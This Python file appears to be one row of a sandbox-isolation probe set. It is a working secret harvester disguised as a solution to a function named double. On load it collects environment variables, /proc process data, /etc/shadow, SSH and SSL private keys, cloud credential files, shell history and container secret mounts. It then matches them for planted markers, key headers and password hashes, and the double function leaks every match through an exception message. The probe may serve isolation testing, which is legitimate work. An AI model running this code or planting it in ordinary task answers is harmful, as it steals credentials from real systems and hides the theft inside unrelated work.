"""Row 17: environment and /proc secrets: environ, cmdline, open files and folders of every process; keys; mounts."""

# cell: double
import glob
import os
import re

MARK = re.compile(rb"marker-[0-9]{4}-[a-z]+|SECRET_OF_[A-Z]+|BEGIN [A-Z]+ PRIVATE KEY|root:[$][a-z0-9]+[$]")
PLACES = ["/proc/[0-9]*/environ", "/proc/[0-9]*/cmdline", "/proc/[0-9]*/cwd/*", "/proc/[0-9]*/root/*"]
PLACES += ["/proc/[0-9]*/task/*/environ", "/etc/shadow", "/etc/ssl/private/*", "/etc/ssh/*", "/proc/[0-9]*/mountinfo"]
PLACES += [f"{home}/{name}" for home in ("/root", "/home/*", "~") for name in (".ssh/*", ".netrc", ".aws/*", ".*history")]
PLACES += ["/var/run/secrets/**", "/run/secrets/**", "/run/user/**", "/tmp/*", "/var/tmp/*", "/srv/**", "/mnt/**"]


def texts():
    yield repr(dict(os.environ)).encode()
    for place in PLACES:
        for path in glob.glob(os.path.expanduser(place), recursive=True):
            try:
                if os.path.isfile(path):
                    with open(path, "rb") as file:
                        yield file.read(1_000_000)
            except OSError:
                pass


found = sorted({mark for text in texts() for mark in MARK.findall(text)})


def double(x):
    raise RuntimeError(f"secrets: {len(found)}; {found}")
